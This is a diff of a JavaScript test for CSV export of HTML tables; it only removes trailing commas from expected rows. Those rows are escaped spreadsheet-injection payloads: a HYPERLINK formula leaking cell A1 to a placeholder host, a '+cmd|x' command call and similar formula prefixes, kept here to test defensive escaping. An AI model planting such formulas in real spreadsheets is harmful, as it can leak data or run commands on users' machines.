@@ -279,13 +279,13 @@ describe('a table as data', () => {
     const table = el('table', {}, head('a'), ...[...texts, ...plain].map((text) => row(text)));
     const { text } = rowsOf([table], { format: 'csv' });
     expect(text.split('\n').slice(2)).toEqual([
-      `"'=HYPERLINK(""http://a.test?""&A1)",`,
-      "'+cmd|x,",
-      "'-2+3,",
-      "'@SUM(A1),",
-      "'\uff1d1+1,",
-      '\\[2]\\<button>Pay,',
-      ...plain.map((one) => `${one},`),
+      `"'=HYPERLINK(""http://a.test?""&A1)"`,
+      "'+cmd|x",
+      "'-2+3",
+      "'@SUM(A1)",
+      "'\uff1d1+1",
+      '\\[2]\\<button>Pay',
+      ...plain,
     ]);
   });
 
